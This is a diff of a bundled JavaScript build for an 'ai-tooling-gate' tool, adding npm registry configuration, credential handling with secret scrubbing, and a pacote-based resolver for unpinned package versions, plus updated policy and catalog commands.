+ * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
+ * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
+ * Never reads the machine's home directory unless `env` names it.
+ */
+function loadNpmConfig(options) {
+    const { env } = options;
+    const errors = [];
+    const secrets = [];
+    const scopes = new Map();
+    const auth = new Map();
+    let registry = null;
+    const userPath = envValue(env, 'npm_config_userconfig') ??
+        (env.HOME ? (0,external_node_path_.join)(env.HOME, '.npmrc') : env.USERPROFILE ? (0,external_node_path_.join)(env.USERPROFILE, '.npmrc') : undefined);
+    const projectText = options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional((0,external_node_path_.join)(options.root, '.npmrc'));
+    // Lowest precedence first; later layers overwrite.
+    const layers = [
+        { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
+        { text: projectText, project: true, file: '.npmrc' },
+    ];
+    for (const layer of layers) {
+        if (layer.text === null)
+            continue;
+        for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
+            const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
+            const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
+            if (!isRegistry && !authKey)
+                continue;
+            const expanded = expand(raw, env, layer.project);
+            if ('forbidden' in expanded) {
+                // Only the repository's own file can be hostile; report it so the gate fails closed.
+                errors.push({
+                    file: layer.file,
+                    line,
+                    message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
+                });
+                continue;
+            }
+            if ('missing' in expanded)
+                continue; // npm would send the literal text; sending nothing is safer
+            const value = expanded.value;
+            if (isRegistry) {
+                const url = normalizeRegistry(value);
+                if (url === null) {
+                    if (layer.project)
+                        errors.push({
+                            file: layer.file,
+                            line,
+                            message: `${key} is not an http(s) URL; the setting is ignored`,
+                        });
+                    continue;
+                }
+                if (key === 'registry')
+                    registry = url;
+                else {
+                    const scope = key.slice(0, -':registry'.length).toLowerCase();
+                    if (SCOPE.test(scope))
+                        scopes.set(scope, url);
+                }
+            }
+            else if (authKey && value !== '') {
+                auth.set(key, value);
+                secrets.push(value);
+                if (authKey === '_auth')
+                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
+                if (authKey === '_password')
+                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
+            }
+        }
+    }
+    for (const [k, v] of Object.entries(env)) {
+        if (v === undefined)
+            continue;
+        const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
+        if (m && SCOPE.test(m[1])) {
+            const url = normalizeRegistry(v);
+            if (url)
+                scopes.set(m[1].toLowerCase(), url);
+        }
+    }
+    const envRegistry = envValue(env, 'npm_config_registry');
+    if (envRegistry !== undefined && normalizeRegistry(envRegistry))
+        registry = normalizeRegistry(envRegistry);
+    if (options.registry !== undefined) {
+        const url = normalizeRegistry(options.registry);
+        if (url === null)
+            throw new Error(`registry "${options.registry}" is not an http(s) URL`);
+        registry = url;
+    }
+    for (const url of [registry, ...scopes.values()]) {
+        if (!url)
+            continue;
+        const u = new URL(url);
+        if (u.password)
+            secrets.push(decodeURIComponent(u.password));
+    }
+    return {
+        registry: registry ?? PUBLIC_REGISTRY,
+        scopes,
+        auth,
+        secrets: secrets.filter((s) => s.length >= 4),
+        errors,
+    };
+}
+/** The registry a package name is looked up in. */
+function registryFor(config, name) {
+    if (name.startsWith('@')) {
+        const scope = name.slice(0, name.indexOf('/')).toLowerCase();
+        const url = config.scopes.get(scope);
+        if (url)
+            return url;
+    }
+    return config.registry;
+}
+/** Replaces every known credential in a message (defence in depth: messages are built without them). */
+function scrub(message, secrets) {
+    let out = message;
+    for (const s of secrets)
+        if (out.includes(s))
+            out = out.split(s).join('***');
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/resolver/npm-resolver.ts
+// Resolves unpinned npm specs (`latest`, `^2.1.0`, `*`, nothing at all) to the version an install
+// would get now, by asking the registry the repository is configured for, the way npm does
+// (pacote.manifest: dist-tags, ranges and the `latest` preference of npm-pick-manifest).
+
+
+
+
+const OFFLINE_NOTE = 'offline: not resolved';
+/** Look-ups in a row that get no answer at all from a registry before the rest skip it. */
+const UNREACHABLE_AFTER = 3;
+const MAX_VERSION_LENGTH = 256;
+/**
+ * Which look-up an unpinned npm registry component needs, or a reason it cannot have one, or
+ * null when the component is not the resolver's (pinned, not npm, not from a registry).
+ */
+function registryRequest(c) {
+    if (c.ecosystem !== 'npm' || c.version !== null || c.sourceKind !== 'registry')
+        return null;
+    let written = (c.spec ?? '').trim();
+    // An alias written whole (`npm:@scope/real@^1`): the part after the real name is the spec.
+    if (written.startsWith('npm:')) {
+        try {
+            const alias = npa_default()(written);
+            if (alias.type === 'alias' && alias.subSpec && alias.subSpec.name === c.name)
+                written = alias.subSpec.rawSpec;
+        }
+        catch {
+            return { reason: `spec "${c.spec}" is not a valid npm alias` };
+        }
+    }
+    const spec = written === '' ? 'latest' : written;
+    let parsed;
+    try {
+        parsed = npa_default().resolve(c.name, spec);
+    }
+    catch {
+        return { reason: `"${c.name}@${spec}" is not a valid npm package spec` };
+    }
+    // Only registry specs: anything else (git, file, URL) would make pacote clone or download.
+    if (parsed.type !== 'tag' && parsed.type !== 'range' && parsed.type !== 'version') {
+        return { reason: `spec "${spec}" is not a dist-tag or a version range` };
+    }
+    return { name: c.name, spec };
+}
+/** Runs tasks with at most `limit` in flight. */
+function limiter(limit) {
+    let active = 0;
+    const queue = [];
+    const next = () => {
+        if (active >= limit)
+            return;
+        const start = queue.shift();
+        if (start) {
+            active++;
+            start();
+        }
+    };
+    return (task) => new Promise((resolve, reject) => {
+        queue.push(() => {
+            task()
+                .then(resolve, reject)
+                .finally(() => {
+                active--;
+                next();
+            });
+        });
+        next();
+    });
+}
+function failureOf(e) {
+    return typeof e === 'object' && e !== null ? e : {};
+}
+/** No HTTP answer at all: a timeout or a network error. */
+function isUnanswered(f, timedOut) {
+    if (timedOut || f.type === 'request-timeout')
+        return true;
+    if (f.statusCode !== undefined || f.type === 'invalid-json')
+        return false;
+    return typeof f.code === 'string' && !['ETARGET', 'E404', 'E401', 'E403'].includes(f.code);
+}
+function isRetryable(f, timedOut) {
+    if (timedOut)
+        return true;
+    if (f.statusCode !== undefined)
+        return f.statusCode === 408 || f.statusCode === 429 || f.statusCode >= 500;
+    if (f.code === 'E404' || f.code === 'ETARGET' || f.code === 'E401' || f.code === 'E403')
+        return false;
+    if (f.type === 'invalid-json')
+        return false;
+    // Network errors (ECONNRESET, ECONNREFUSED, EAI_AGAIN, …).
+    return typeof f.code === 'string' && f.code.startsWith('E');
+}
+/** Why a look-up failed, in words that never carry the request's credentials. */
+function npm_resolver_describe(f, timedOut, req, where, attempts, timeoutMs) {
+    const tries = attempts === 1 ? '1 attempt' : `${attempts} attempts`;
+    if (timedOut || f.type === 'request-timeout')
+        return `no answer from ${where} within ${timeoutMs} ms (${tries})`;
+    if (f.code === 'ETARGET')
+        return `no version of ${req.name} matches "${req.spec}" at ${where}`;
+    if (f.code === 'E404' || f.statusCode === 404)
+        return `${req.name} not found at ${where} (HTTP 404)`;
+    if (f.statusCode === 401 || f.statusCode === 403)
+        return `${where} refused the look-up of ${req.name} (HTTP ${f.statusCode}): missing or rejected credentials`;
+    if (f.type === 'invalid-json')
+        return `${where} answered ${req.name} with invalid JSON`;
+    if (f.statusCode !== undefined)
+        return `HTTP ${f.statusCode} from ${where} for ${req.name} (${tries})`;
+    if (typeof f.code === 'string' && /^[A-Z0-9_]{2,40}$/.test(f.code))
+        return `network error ${f.code} reaching ${where} (${tries})`;
+    return `look-up of ${req.name} at ${where} failed (${tries})`;
+}
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+/**
+ * Creates the npm resolver stage. Each distinct (name, spec) is looked up once per resolver call;
+ * failures never throw: the component keeps `version: null` and `versionNote` says why.
+ */
+function createNpmResolver(options) {
+    const concurrency = Math.max(1, options.concurrency ?? 8);
+    const timeoutMs = Math.max(1, options.timeoutMs ?? 15_000);
+    const retries = Math.max(0, options.retries ?? 2);
+    const retryDelayMs = Math.max(0, options.retryDelayMs ?? 500);
+    return async (components) => {
+        const wanted = components.map(registryRequest);
+        if (!wanted.some((w) => w !== null)) {
+            return { components: [...components], stats: { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 } };
+        }
+        const stats = { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 };
+        let config = null;
+        let errors = [];
+        if (!options.offline) {
+            config = loadNpmConfig({
+                root: options.root,
+                env: options.env,
+                ...(options.registry !== undefined ? { registry: options.registry } : {}),
+                ...(options.projectNpmrc !== undefined ? { projectNpmrc: options.projectNpmrc } : {}),
+            });
+            errors = config.errors;
+        }
+        const limit = limiter(concurrency);
+        // One packument request per package per run: specs of one package are looked up one after
+        // the other, the first fills pacote's in-memory packument cache and the rest read it; when
+        // the first fails for a reason that is about the package, the rest share that reason.
+        const packumentCache = new Map();
+        const lookups = new Map();
+        const lastOfPackage = new Map();
+        // A registry that answers nothing (down, blackholed) would cost every package the full
+        // timeout and retries; after a few look-ups in a row without an answer the rest skip it.
+        const unanswered = new Map();
+        // pacote and its dependencies take most of a second to load: only runs that look up pay it.
+        let pacoteModule = null;
+        const loadPacote = () => (pacoteModule ??= __nccwpck_require__.e(/* import() */ 710).then(__nccwpck_require__.t.bind(__nccwpck_require__, 92710, 23)).then((m) => m.default));
+        const lookUp = async (cfg, req) => {
+            const { manifest } = await loadPacote();
+            const registry = registryFor(cfg, req.name);
+            const where = displayRegistry(registry);
+            const spec = npa_default().resolve(req.name, req.spec).toString();
+            const down = unanswered.get(registry);
+            if (down && down.inARow >= UNREACHABLE_AFTER) {
+                return {
+                    reason: `skipped: ${where} gave no answer to ${down.inARow} look-ups in a row (last: ${down.last})`,
+                    byPackage: true,
+                };
+            }
+            let attempt = 0;
+            for (;;) {
+                attempt++;
+                stats.attempts++;
+                const controller = new AbortController();
+                let timedOut = false;
+                const timer = setTimeout(() => {
+                    timedOut = true;
+                    controller.abort();
+                }, timeoutMs);
+                try {
+                    const opts = {
+                        registry,
+                        fullMetadata: false,
+                        preferOnline: true,
+                        packumentCache,
+                        // No `cache`: nothing is written to disk and every run asks the registry afresh.
+                        fetchRetries: 0,
+                        timeout: timeoutMs,
+                        signal: controller.signal,
+                        userAgent: 'ai-tooling-gate (pacote)',
+                    };
+                    for (const [k, v] of cfg.auth)
+                        opts[k] = v;
+                    // The signal aborts the request; the race makes sure nothing waits past the timeout
+                    // even if some layer below does not honour it.
+                    const found = await Promise.race([
+                        manifest(spec, opts),
+                        new Promise((_, reject) => controller.signal.addEventListener('abort', () => reject(Object.assign(new Error('timed out'), { type: 'request-timeout' })))),
+                    ]);
+                    unanswered.delete(registry);
+                    const version = typeof found.version === 'string' ? found.version : '';
+                    if (version.length > MAX_VERSION_LENGTH || semver_default().valid(version) === null) {
+                        return { reason: `${where} answered ${req.name} with an invalid version` };
+                    }
+                    return { version, registry: where };
+                }
+                catch (e) {
+                    const f = failureOf(e);
+                    if (attempt <= retries && isRetryable(f, timedOut)) {
+                        clearTimeout(timer);
+                        await sleep(retryDelayMs * 2 ** (attempt - 1));
+                        continue;
+                    }
+                    const reason = npm_resolver_describe(f, timedOut, req, where, attempt, timeoutMs);
+                    if (isUnanswered(f, timedOut)) {
+                        const inARow = (unanswered.get(registry)?.inARow ?? 0) + 1;
+                        unanswered.set(registry, { inARow, last: reason });
+                    }
+                    else
+                        unanswered.delete(registry);
+                    return { reason, byPackage: f.code !== 'ETARGET' };
+                }
+                finally {
+                    clearTimeout(timer);
+                }
+            }
+        };
+        const outcomes = await Promise.all(wanted.map((w) => {
+            if (w === null)
+                return Promise.resolve(null);
+            if ('reason' in w)
+                return Promise.resolve(w);
+            if (config === null)
+                return Promise.resolve({ reason: OFFLINE_NOTE });
+            const key = `${w.name}@${w.spec}`;
+            let p = lookups.get(key);
+            if (!p) {
+                const cfg = config;
+                const previous = lastOfPackage.get(w.name) ?? Promise.resolve(null);
+                p = previous.then((before) => {
+                    if (before && 'reason' in before && before.byPackage)
+                        return before;
+                    stats.lookups++;
+                    return limit(() => lookUp(cfg, w)).catch((e) => ({
+                        reason: `look-up of ${w.name} failed: ${e instanceof Error ? e.message : String(e)}`,
+                    }));
+                });
+                lookups.set(key, p);
+                lastOfPackage.set(w.name, p);
+            }
+            return p;
+        }));
+        const secrets = config?.secrets ?? [];
+        const out = components.map((c, i) => {
+            const outcome = outcomes[i];
+            const w = wanted[i];
+            if (!outcome || !w)
+                return c;
+            if ('version' in outcome && !('reason' in w)) {
+                stats.resolved++;
+                return {
+                    ...c,
+                    version: outcome.version,
+                    purl: purlFor(c.ecosystem, c.name, outcome.version),
+                    versionNote: scrub(`resolved "${w.spec}" to ${outcome.version} from ${outcome.registry}`, secrets),
+                };
+            }
+            stats.unresolved++;
+            const reason = 'reason' in outcome ? outcome.reason : '';
+            return {
+                ...c,
+                versionNote: scrub(reason === OFFLINE_NOTE ? OFFLINE_NOTE : `not resolved: ${reason}`, secrets),
+            };
+        });
+        return { components: out, ...(errors.length > 0 ? { errors } : {}), stats };
+    };
+}
+
+;// CONCATENATED MODULE: ./src/resolver/index.ts
+
+
+/** Adapts a resolver to the audit's `resolve` hook: its errors join the scan's errors. */
+function auditResolveHook(resolver) {
+    return async (components, errors) => {
+        const result = await resolver(components);
+        if (result.errors)
+            errors.push(...result.errors);
+        return result.components;
+    };
 }
 
 ;// CONCATENATED MODULE: ./src/reconcile.ts
@@ -20083,13 +31281,15 @@ class DirectorySource {
 
 
 
+
+
 const USAGE = `Usage: ai-tooling-gate <command> [options]
 
 Commands:
   scan [DIR]            evaluate everything found under DIR (default .) against the policy
   inventory [DIR]       list every component found, no policy
   policy check FILE     validate a policy file
-  catalog               print the built-in AI-tool catalog and advisories
+  catalog               print the built-in AI-tool catalog and advisories (--format text|json)
 
 scan options:
   --policy FILE         policy file or builtin:NAME (default: DIR/.github/ai-tooling-policy.yml|.yaml|.json, else builtin:default)
@@ -20134,7 +31334,7 @@ async function main(argv) {
             process.stderr.write(`ai-tooling-gate: ${e.message}\n\n${USAGE}`);
             return 2;
         }
-        if (e instanceof PolicyError) {
+        if (e instanceof parse_PolicyError) {
             process.stderr.write(`ai-tooling-gate: invalid policy: ${e.message}\n`);
             return 2;
         }
@@ -20242,27 +31442,32 @@ async function policyCommand(args) {
     const { positionals } = main_parse(rest, {});
     if (positionals.length !== 1)
         throw new UsageError('policy check takes exactly one FILE');
-    const policy = await loadPolicy(positionals[0]);
-    process.stdout.write(`${positionals[0]}: valid policy: ${policy.rules.length} rules, ${policy.exceptions.length} exceptions (from ${policy.sources.join(', ')})\n`);
+    const file = positionals[0];
+    const policy = await loadPolicy(file);
+    const now = new Date();
+    const locked = policy.rules.filter((r) => r.locked).length;
+    const expired = policy.exceptions.filter((e) => isExpired(e, now));
+    const lines = [
+        `${file}: valid policy (version 1)`,
+        `  ${policy.rules.length} rule${policy.rules.length === 1 ? '' : 's'}${locked ? ` (${locked} locked)` : ''}, ${policy.exceptions.length} exception${policy.exceptions.length === 1 ? '' : 's'}${expired.length ? ` (${expired.length} expired)` : ''}, unknown versions: ${policy.settings.unknownVersion}`,
+        `  merged from: ${policy.sources.join(', ')}`,
+    ];
+    for (const r of policy.rules) {
+        const what = r.tool !== undefined ? `tool ${r.tool}` : `${r.ecosystem} ${r.package}`;
+        lines.push(`  ${r.action.padEnd(4)} ${r.id}: ${what} ${r.versions ?? '(every version)'}${r.locked ? ' [locked]' : ''}`);
+    }
+    for (const e of expired) {
+        lines.push(`  note: exception for rule ${e.rule} expired on ${e.expires} (${formatOrigin(e.origin)})`);
+    }
+    process.stdout.write(lines.join('\n') + '\n');
     return 0;
 }
 function catalogCommand(args) {
-    const { values } = main_parse(args, { format: { type: 'string' } });
+    const { values, positionals } = main_parse(args, { format: { type: 'string' } });
+    if (positionals.length > 0)
+        throw new UsageError(`unexpected argument "${positionals[0]}"`);
     const format = oneOf('format', values.format, ['text', 'json'], 'text');
-    if (format === 'json') {
-        process.stdout.write(JSON.stringify({
-            tools: catalog.tools.map((t) => ({
-                ...t,
-                carriers: t.carriers.map(({ toolVersion: _tv, ...c }) => c),
-            })),
-        }, null, 2) + '\n');
-        return 0;
-    }
-    for (const t of catalog.tools) {
-        process.stdout.write(`${t.id}  ${t.name} (${t.vendor})\n`);
-        for (const c of t.carriers)
-            process.stdout.write(`  ${c.ecosystem}  ${c.package}  — ${c.kind}\n`);
-    }
+    process.stdout.write(format === 'json' ? renderCatalogJson() : renderCatalogText());
     return 0;
 }
 
